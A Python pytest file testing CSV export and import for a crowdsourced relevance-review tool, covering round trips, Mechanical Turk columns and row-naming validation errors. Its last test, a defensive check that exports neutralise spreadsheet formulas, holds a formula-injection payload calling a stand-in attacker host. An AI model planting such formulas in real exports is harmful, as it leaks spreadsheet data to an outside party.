"""CSV round trip for crowdsourcing platforms, with validation errors that name the row."""

from __future__ import annotations

import csv
import re

import pytest
from review_support import escalated, staged_records, synced_db, tiny_dataset

from bridge.core.errors import InputError
from bridge.review.csvio import EXPORT_COLUMNS, export_csv, import_csv, inert_cell


@pytest.fixture
def db(tiny_beir, tmp_path):
    return synced_db(tmp_path / "r.sqlite", tiny_dataset(tiny_beir), staged_records(), check_share=0.25)


def read_rows(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def write_rows(path, header, rows):
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def test_export_has_one_row_per_item_with_the_rendered_history(db, tmp_path):
    summary = export_csv(db, tmp_path / "items.csv")
    rows = read_rows(tmp_path / "items.csv")
    assert (summary.cases, summary.checks) == (3, 1)
    assert tuple(rows[0]) == EXPORT_COLUMNS
    assert {r["item_id"] for r in rows} == {i.public_id for i in db.items()}
    debated = next(r for r in rows if "Round 2" in r["history"])
    assert debated["chunk"] == "X-rays\nRontgen discovered X-rays in 1895 in Wurzburg."
    assert "Agent A (opened: relevant): RELEVANT" in debated["history"]
    assert "reason: Discovering X-rays is not winning the first prize." in debated["history"]
    assert 'evidence: "made up quote" [not found in the chunk]' in debated["history"]
    pairs = {(i.qid, i.docid) for i in db.items()}
    names = {name for pair in pairs for name in pair}
    for r in rows:  # ids reveal nothing: one opaque hex token, never a query or document id
        tokens = set(re.split(r"[^0-9A-Za-z]+", r["item_id"]))
        assert re.fullmatch(r"[0-9a-f]{12}", r["item_id"]) and not tokens & names


def test_round_trip_decides_cases_and_reimport_changes_nothing(db, tmp_path):
    export_csv(db, tmp_path / "items.csv")
    checks = {i.public_id: i.gold for i in db.items("check")}
    filled = []
    for row in read_rows(tmp_path / "items.csv"):
        for worker in ("w1", "w2", "w3"):
            label = checks.get(row["item_id"], 1 if worker != "w3" else 0)  # w3 dissents on every case
            filled.append([row["item_id"], worker, str(label), f"by {worker}"])
    path = write_rows(tmp_path / "answers.csv", ["item_id", "worker", "label", "comment"], filled)
    summary, unfilled = import_csv(db, path)
    assert (summary.added, summary.unchanged, summary.new_workers, unfilled) == (12, 0, 3, 0)
    progress = db.progress()
    assert (progress.decided, progress.relevant) == (3, 3)
    assert progress.check_pass_rate == 1.0
    again, _ = import_csv(db, path)
    assert (again.added, again.unchanged) == (0, 12)
    assert len(db.judgments()) == 12
    # the next export holds only what is still open: no cases, hence no checks
    rest = export_csv(db, tmp_path / "rest.csv")
    assert (rest.cases, rest.checks) == (0, 0) and read_rows(tmp_path / "rest.csv") == []


def test_mechanical_turk_result_columns_are_understood(db, tmp_path):
    case = db.items("case")[0].public_id
    path = write_rows(
        tmp_path / "mturk.csv",
        ["HITId", "WorkerId", "Input.item_id", "Answer.label", "Answer.comment"],
        [["h1", "A1B2", case, "Relevant", ""], ["h1", "C3D4", case, "not relevant", "off topic"]],
    )
    summary, _ = import_csv(db, path)
    assert summary.added == 2
    assert sorted((j.annotator, j.label, j.comment) for j in db.judgments()) == [
        ("A1B2", 1, ""),
        ("C3D4", 0, "off topic"),
    ]


@pytest.mark.parametrize(
    ("rows", "message"),
    [
        ([["ITEM", "w1", "1"], ["nope", "w1", "1"]], r"line 3, field 'item_id': row 2: unknown item 'nope'"),
        ([["ITEM", "w1", "maybe"]], r"line 2, field 'label': row 1: label 'maybe' is not 1/0"),
        ([["ITEM", "", "1"]], r"line 2, field 'worker': row 1: empty worker"),
        ([["ITEM", "w1", "1"], ["ITEM", "w1", "0"]], r"line 3, field 'label': row 2: worker 'w1' already judged"),
    ],
)
def test_bad_rows_are_named_and_nothing_is_imported(db, tmp_path, rows, message):
    case = db.items("case")[0].public_id
    rows = [[case if cell == "ITEM" else cell for cell in row] for row in rows]
    path = write_rows(tmp_path / "bad.csv", ["item_id", "worker", "label"], rows)
    with pytest.raises(InputError, match=message):
        import_csv(db, path)
    assert db.judgments() == [] and db.annotators() == {}


def test_rows_spanning_lines_are_located_by_their_first_line(db, tmp_path):
    case = db.items("case")[0].public_id
    path = write_rows(
        tmp_path / "multi.csv",
        ["item_id", "worker", "label", "comment"],
        [[case, "w1", "1", "two\nlines"], [case, "w2", "2", ""]],
    )
    with pytest.raises(InputError, match=r"multi.csv, line 4, field 'label': row 2"):
        import_csv(db, path)


def test_a_contradicting_reimport_is_refused(db, tmp_path):
    case = db.items("case")[0].public_id
    import_csv(db, write_rows(tmp_path / "a.csv", ["item_id", "worker", "label"], [[case, "w1", "1"]]))
    with pytest.raises(InputError, match=r"worker 'w1' already judged item .* as 1"):
        import_csv(db, write_rows(tmp_path / "b.csv", ["item_id", "worker", "label"], [[case, "w1", "0"]]))


def test_missing_column_is_named(db, tmp_path):
    path = write_rows(tmp_path / "x.csv", ["item_id", "label"], [["a", "1"]])
    with pytest.raises(InputError, match="missing column 'worker'"):
        import_csv(db, path)


def test_a_csv_in_a_windows_code_page_is_one_error_naming_its_line(db, tmp_path):
    case = db.items("case")[0].public_id
    path = tmp_path / "excel.csv"
    path.write_bytes(f"item_id,worker,label,comment\r\n{case},w1,1,ok\r\n{case},w2,0,caf\xe9\r\n".encode("cp1252"))
    with pytest.raises(InputError, match=r"excel.csv, line 3: not UTF-8 text"):
        import_csv(db, path)
    assert db.judgments() == []


def test_a_passage_that_starts_like_a_formula_is_exported_inert(tiny_beir, tmp_path):
    """A spreadsheet runs a cell that starts with = + - @; the export puts a single quote before such text."""
    import json

    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with open(tiny_beir / "corpus.jsonl", "a", encoding="utf-8") as handle:
        handle.write(json.dumps({"_id": "d7", "title": "", "text": formula}) + "\n")
    db = synced_db(tmp_path / "r.sqlite", tiny_dataset(tiny_beir), [escalated("q1", "d7")], check_share=0.0)
    export_csv(db, tmp_path / "items.csv")
    (row,) = read_rows(tmp_path / "items.csv")
    assert row["chunk"] == "'" + formula
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert inert_cell(text) == "'" + text
    assert inert_cell("Rontgen = X-rays") == "Rontgen = X-rays" and inert_cell("") == ""
